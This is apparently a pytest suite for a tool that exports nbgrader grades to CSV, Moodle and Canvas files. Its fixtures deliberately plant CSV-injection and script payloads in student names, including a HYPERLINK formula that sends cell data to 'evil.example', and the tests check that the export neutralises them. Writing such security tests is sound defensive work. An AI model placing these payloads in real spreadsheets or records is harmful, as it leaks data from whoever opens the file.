"""The gradebook's marks reach people, Moodle and Canvas as they are, and run nothing on the way."""

import csv
import os
import re
import shutil
import sys
from datetime import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from sqlalchemy import event
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from xraydojo import DojoError
from xraydojo.cli import app
from xraydojo.grade.export import export
from xraydojo.lesson import REPOSITORY

DUE, LATE = datetime(2026, 5, 1, 12), datetime(2026, 5, 1, 13)
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"marks")'


def hand_in(
    gradebook, unit, learner, points, penalty=0, timestamp=DUE, by_hand=None, extra=None, waits=False
):
    """Enter a submission as nbgrader's autograde and formgrader do."""
    handed_in = gradebook.add_submission(unit, learner, timestamp=timestamp)
    for grade, score in zip(sorted(handed_in.notebooks[0].grades, key=lambda each: each.name), points):
        grade.auto_score, grade.needs_manual_grade = score, False
    last = max(handed_in.notebooks[0].grades, key=lambda each: each.name)
    last.manual_score, last.extra_credit, last.needs_manual_grade = by_hand, extra, waits
    handed_in.notebooks[0].late_submission_penalty = penalty
    gradebook.db.commit()


@pytest.fixture(scope="module")
def empty(tmp_path_factory):
    """Return nbgrader's empty gradebook."""
    path = tmp_path_factory.mktemp("empty") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader looks for alembic beside this Python
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
        Gradebook(f"sqlite:///{path}").close()
    return path


@pytest.fixture(scope="module")
def filled(empty):
    """Return a gradebook of five learners and two units, filled through nbgrader's own API."""
    path = empty.with_name("filled.db")
    shutil.copy(empty, path)
    with Gradebook(f"sqlite:///{path}") as gradebook:
        for unit in ("02_perceptron", "05_convolution"):
            gradebook.add_assignment(unit, duedate=DUE if unit == "02_perceptron" else None)
            gradebook.add_notebook(unit, unit)
            for cell, points in (("test_a", 2), ("test_b", 3)):
                gradebook.add_grade_cell(cell, unit, unit, max_score=points, cell_type="code")
        gradebook.add_student("u1", last_name="山田", first_name="太郎", email="taro@example.ac.jp")
        gradebook.add_student("u2", last_name="Smith", first_name=FORMULA, lms_user_id="4242")
        gradebook.add_student("u3", last_name="<script>alert(1)</script>", first_name='a,\n"b"')
        gradebook.add_student("../u4", last_name="＝1+1", first_name="@SUM(A1)")
        gradebook.add_student("u5", last_name="Points Possible")
        hand_in(gradebook, "02_perceptron", "u1", (2, 3))
        hand_in(gradebook, "02_perceptron", "u2", (2, 0), penalty=0.5, timestamp=LATE)
        hand_in(gradebook, "02_perceptron", "u3", (2, 0), by_hand=1.25, extra=0.5)
        hand_in(gradebook, "02_perceptron", "../u4", (1, 0), waits=True)
        hand_in(gradebook, "05_convolution", "u1", (0, 1), penalty=7)
    return path


@pytest.fixture
def url(filled, tmp_path):
    """Return the URL of a copy of the filled gradebook."""
    shutil.copy(filled, tmp_path / "gradebook.db")
    return f"sqlite:///{tmp_path / 'gradebook.db'}"


def exported(url, tmp_path, kind, units=None):
    out = tmp_path / "out.csv"
    notes = export(url, units, kind, out)
    with out.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file)), notes


def by_learner(rows, unit):
    header, *lines = rows
    lines = [dict(zip(header, line, strict=True)) for line in lines]
    return {line["learner"]: line for line in lines if line["unit"] == unit}


def test_every_learner_has_a_line_for_every_unit(url, tmp_path):
    rows, _ = exported(url, tmp_path, "csv")
    assert len(rows) == 1 + 5 * 2
    assert by_learner(rows, "02_perceptron")["u1"]["last_name"] == "山田"


def test_marks_are_those_of_nbgraders_own_export(url, tmp_path, monkeypatch):
    rows, _ = exported(url, tmp_path, "csv")
    monkeypatch.chdir(tmp_path)
    with Gradebook(url) as gradebook:
        # nbgrader's export quotes nothing, so that only names without commas can be read back
        gradebook.update_or_create_student("u3", first_name="", last_name="")
        CsvExportPlugin().export(gradebook)
    compared = 0
    for line in csv.DictReader((tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()):
        if line["student_id"] in ("u1", "u3"):
            ours = by_learner(rows, line["assignment"])[line["student_id"]]
            if ours["raw_score"]:
                compared += 1
                assert float(ours["raw_score"]) == float(line["raw_score"])
                assert float(ours["late_penalty"]) == float(line["late_submission_penalty"])
                assert float(ours["final"]) == float(line["score"])
            assert float(ours["max"]) == float(line["max_score"])
    assert compared == 3


def test_marks_by_hand_extra_credit_and_late_penalties_count(url, tmp_path):
    rows, _ = exported(url, tmp_path, "csv")
    marks = by_learner(rows, "02_perceptron")
    kept = ("raw_score", "late_penalty", "marked_by_hand", "final", "max")
    assert [marks["u1"][name] for name in kept] == ["5", "0", "", "5", "5"]
    assert [marks["u2"][name] for name in kept] == ["2", "0.5", "", "1.5", "5"]
    # 2 by the test, 1.25 by hand in the place of 0, and 0.5 extra
    assert [marks["u3"][name] for name in kept] == ["3.75", "0", "1.75", "3.75", "5"]
    # a penalty takes no more than there is
    assert by_learner(rows, "05_convolution")["u1"]["final"] == "0"


def test_no_submission_is_blank_and_not_zero(url, tmp_path):
    rows, _ = exported(url, tmp_path, "csv")
    absent = by_learner(rows, "05_convolution")["u2"]
    assert [absent[name] for name in ("raw_score", "late_penalty", "waits_for_manual_mark", "final")] == [
        ""
    ] * 4
    moodle, _ = exported(url, tmp_path, "moodle")
    assert next(row for row in moodle if row[2] == "u5")[4:] == ["-", "-"]
    canvas, _ = exported(url, tmp_path, "canvas")
    assert next(row for row in canvas if row[3] == "u5")[5:] == ["", ""]


def test_a_mark_that_waits_for_a_person_is_left_out_and_said(url, tmp_path):
    for kind in ("csv", "moodle", "canvas"):
        rows, notes = exported(url, tmp_path, kind, ["02"])
        assert len(notes) == 1 and "02_perceptron: 1 final marks left out" in notes[0] and "../u4" in notes[0]
        line = next(row for row in rows if "../u4" in row)
        assert line[-1 if kind != "csv" else -2] in ("", "-")
    rows, _ = exported(url, tmp_path, "csv", ["02"])
    assert by_learner(rows, "02_perceptron")["../u4"]["waits_for_manual_mark"] == "yes"


@pytest.mark.parametrize("kind", ["csv", "moodle", "canvas"])
def test_no_cell_is_a_formula_or_breaks_its_line(url, tmp_path, kind):
    rows, _ = exported(url, tmp_path, kind)
    cells = [cell for row in rows for cell in row]
    # OWASP, CSV Injection, and ASVS 1.2.10; a lone "-" is Moodle's word for no grade
    assert not [cell for cell in cells if cell != "-" and re.match(r"\s*[=+\-@\t\r\0＝＋－＠]", cell)]
    assert not [cell for cell in cells if "\n" in cell]
    assert len({len(row) for row in rows}) == 1
    text = "".join(cells)
    assert "'" + FORMULA in text or f"Smith, {FORMULA}" in text
    assert "<script>alert(1)</script>" in text and 'a, "b"' in text and "山田" in text


def test_a_table_opens_in_excel_and_the_others_are_plain_utf8(url, tmp_path):
    for kind, begins in (("csv", b"\xef\xbb\xbflearner"), ("moodle", b"First name"), ("canvas", b"Student,")):
        export(url, None, kind, tmp_path / kind)
        assert (tmp_path / kind).read_bytes().startswith(begins)


def test_moodle_gets_the_columns_that_its_own_export_has(url, tmp_path):
    rows, _ = exported(url, tmp_path, "moodle")
    # docs.moodle.org, Grade import: "Email Address" to useremail, or "ID number" to useridnumber; then a column for each item
    assert rows[0] == [
        "First name",
        "Last name",
        "ID number",
        "Email address",
        "02_perceptron",
        "05_convolution",
    ]
    taro = next(row for row in rows if row[0] == "太郎")
    assert taro == ["太郎", "山田", "u1", "taro@example.ac.jp", "5", "0"]
    assert next(row for row in rows if row[1] == "Smith")[2] == "4242"


def test_marks_over_moodles_hundred_are_said(url, tmp_path):
    with Gradebook(url) as gradebook:
        gradebook.add_grade_cell("test_c", "02_perceptron", "02_perceptron", max_score=96, cell_type="code")
    _, notes = exported(url, tmp_path, "moodle", ["02"])
    assert any("unlimitedgrades" in note for note in notes)
    _, notes = exported(url, tmp_path, "canvas", ["02"])
    assert not any("unlimitedgrades" in note for note in notes)


def test_canvas_accepts_the_file(url, tmp_path):
    """The rules are those of Canvas's lib/gradebook_importer.rb: header?, update_column_count, process_pp, title_and_id."""
    (header, points, *learners), _ = exported(url, tmp_path, "canvas", ["02=4711", "05"])
    assert "Student" in header[0] and "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[5]).groups() == ("02_perceptron", "4711")
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[6]) is None
    assert "Points Possible" in points[0] and points[5:] == ["5", "5"]
    # a line whose name says so would change the assignment's points
    assert len(learners) == 5 and not [row for row in learners if "Points Possible" in row[0]]
    taro = next(row for row in learners if row[0] == "山田, 太郎")
    assert taro == ["山田, 太郎", "", "u1", "u1", "", "5", "0"]
    assert next(row for row in learners if row[3] == "u2")[1] == "4242"


@pytest.mark.parametrize("units", [["99"], ["0"], ["02="], ["02=x"], [""]])
def test_a_unit_that_is_not_there_is_named(url, tmp_path, units):
    with pytest.raises(DojoError, match=re.escape(f"has no unit {units[0]!r}; it has 02_perceptron, 05")):
        export(url, units, "canvas", tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_only_canvas_numbers_assignments(url, tmp_path):
    with pytest.raises(DojoError, match="02=4711"):
        export(url, ["02=4711"], "moodle", tmp_path / "out.csv")


@pytest.mark.parametrize(
    "broken",
    ["sqlite:///{}/none.db", "sqlite:///{}/text.db", "no url", "postgresql://127.0.0.1:1/none", "sqlite://"],
)
def test_a_gradebook_that_cannot_be_read_ends_in_one_line(tmp_path, broken):
    (tmp_path / "text.db").write_text("this is no data base, but long enough to be read as one" * 10)
    with pytest.raises(DojoError) as refusal:
        export(broken.format(tmp_path), None, "csv", tmp_path / "out.csv")
    assert "\n" not in str(refusal.value) and "gradebook" in str(refusal.value)
    assert not (tmp_path / "none.db").exists()


def test_reading_adds_nothing_to_the_gradebook(url, tmp_path):
    before = (tmp_path / "gradebook.db").read_bytes()
    exported(url, tmp_path, "csv")
    assert (tmp_path / "gradebook.db").read_bytes() == before


def test_many_learners_and_units_take_few_questions_to_the_data_base(empty, tmp_path):
    shutil.copy(empty, tmp_path / "gradebook.db")
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        for number in range(12):
            gradebook.add_assignment(f"{number:02}_unit")
            gradebook.add_notebook("unit", f"{number:02}_unit")
            gradebook.add_grade_cell("test", "unit", f"{number:02}_unit", max_score=1, cell_type="code")
        for number in range(200):
            gradebook.add_student(f"u{number}")
        for number in range(20):
            hand_in(gradebook, f"{number % 12:02}_unit", f"u{number}", (1,))
    asked = []
    event.listen(Engine, "before_cursor_execute", lambda *arguments: asked.append(arguments[2]))
    rows, _ = exported(url, tmp_path, "csv")
    assert len(rows) == 2401
    assert len(asked) < 100, "questions to the data base for each learner"


def test_the_command_takes_the_gradebook_of_the_class_folder(url, tmp_path, monkeypatch):
    config = (REPOSITORY / "grading" / "nbgrader_config.py").read_text(encoding="utf-8")
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "nbgrader_config.py").write_text(
        f"{config}\nc.CourseDirectory.db_url = {url!r}\n", encoding="utf-8"
    )
    monkeypatch.chdir(folder)
    done = CliRunner().invoke(app, ["export", "moodle", "02"])
    assert done.exit_code == 0 and "grades_moodle.csv" in done.output and "../u4" in done.output
    assert (folder / "grades_moodle.csv").read_text(encoding="utf-8").startswith("First name,")
